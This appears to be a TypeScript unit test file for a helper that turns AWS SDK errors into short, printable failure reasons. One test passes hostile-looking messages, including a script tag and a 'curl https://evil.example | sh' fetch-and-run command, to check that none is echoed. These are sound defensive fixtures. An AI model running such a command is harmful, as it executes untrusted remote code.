import fc from 'fast-check';
import { mayPass, printable, reasonOf } from '../../lambda/aws/errors';
import { awsError } from '../enrich/fakes';
import { anyCharacter } from '../support/any-character';

const OPERATION = 'iam:GetRole';

describe('the reason for a failure', () => {
  it.each([
    [awsError('AccessDenied'), 'access denied (iam:GetRole)'],
    [awsError('AccessDeniedException'), 'access denied (iam:GetRole)'],
    [awsError('ThrottlingException'), 'throttled by AWS (iam:GetRole)'],
    [awsError('Throttling'), 'throttled by AWS (iam:GetRole)'],
    [{ name: 'Odd', message: 'x', $metadata: { httpStatusCode: 429 } }, 'throttled by AWS (iam:GetRole)'],
    [awsError('NoSuchEntityException'), 'does not exist'],
    [{ name: 'Error', Code: 'NoSuchEntity' }, 'does not exist'],
    [awsError('ResourceNotFoundException'), 'does not exist'],
    [awsError('TimeoutError'), 'timed out'],
    [Object.assign(new Error('x'), { code: 'ETIMEDOUT' }), 'timed out'],
    [Object.assign(new Error('x'), { code: 'ECONNREFUSED' }), 'no connection'],
    [new AggregateError([Object.assign(new Error('x'), { code: 'ECONNREFUSED' })]), 'no connection'],
    [new Error('x', { cause: Object.assign(new Error('y'), { code: 'ENOTFOUND' }) }), 'no connection'],
    [awsError('CredentialsProviderError'), 'no AWS credentials'],
    [awsError('ExpiredTokenException'), 'AWS did not accept the credentials (iam:GetRole)'],
    [awsError('ValidationException', 'bad id'), 'failed with ValidationException (iam:GetRole)'],
    [new TypeError('x is not a function'), 'failed with TypeError (iam:GetRole)'],
    [
      awsError('ReadRoleError', 'role Reader cannot be assumed'),
      'ReadRoleError: role Reader cannot be assumed',
    ],
    [new SyntaxError('Unexpected token <'), 'the answer could not be read (iam:GetRole)'],
    ['a text', 'Error: a text'],
    [undefined, 'Error: no reason given'],
    [null, 'Error: no reason given'],
    [{ name: 3, message: {} }, 'failed with 3 (iam:GetRole)'],
  ])('of %p is %p', (error, reason) => {
    expect(reasonOf(error, OPERATION)).toBe(reason);
  });

  it('is found where the SDK has wrapped the error of a broken connection', () => {
    const wrapped = 'AWS SDK error wrapper for Error: connect ECONNREFUSED 127.0.0.1:9';
    expect(reasonOf(new Error(wrapped), OPERATION)).toBe('no connection');
  });

  it('bounds what a message may say', () => {
    const reason = reasonOf(new Error('x'.repeat(1_000_000)), OPERATION);
    expect(reason).toHaveLength(200);
    expect(reason).toMatch(/^Error: x+…$/);
  });

  it.each(['<script>', 'curl https://evil.example | sh', 'arn:aws:iam::111122223333:role/x'])(
    'repeats nothing that AWS says of a call: %s',
    (said) => {
      expect(reasonOf(awsError('ValidationError', said), OPERATION)).toBe(
        'failed with ValidationError (iam:GetRole)',
      );
    },
  );

  it('takes any error text and stays printable', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: anyCharacter, maxLength: 600 }),
        fc.string({ unit: anyCharacter }),
        (message, name) => {
          const reason = reasonOf({ message, name }, OPERATION);
          expect(Array.from(reason).length).toBeLessThanOrEqual(200);
          expect(reason).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        },
      ),
    );
  });

  it.each([
    [awsError('ThrottlingException'), true],
    [awsError('TimeoutError'), true],
    [{ code: 'ECONNRESET' }, true],
    [{ name: 'Odd', $metadata: { httpStatusCode: 503 } }, true],
    [{ name: 'Odd', $metadata: { httpStatusCode: 400 } }, false],
    [awsError('AccessDenied'), false],
    [awsError('AbortError'), false],
    [awsError('CredentialsProviderError'), false],
    [new Error('odd'), false],
    [undefined, false],
  ])('of %p may pass: %p', (error, expected) => {
    expect(mayPass(error)).toBe(expected);
  });

  it('cuts between characters, never within one', () => {
    expect(printable('😀'.repeat(10), 4)).toBe('😀😀😀…');
    expect(printable('😀'.repeat(4), 4)).toBe('😀😀😀😀');
  });
});
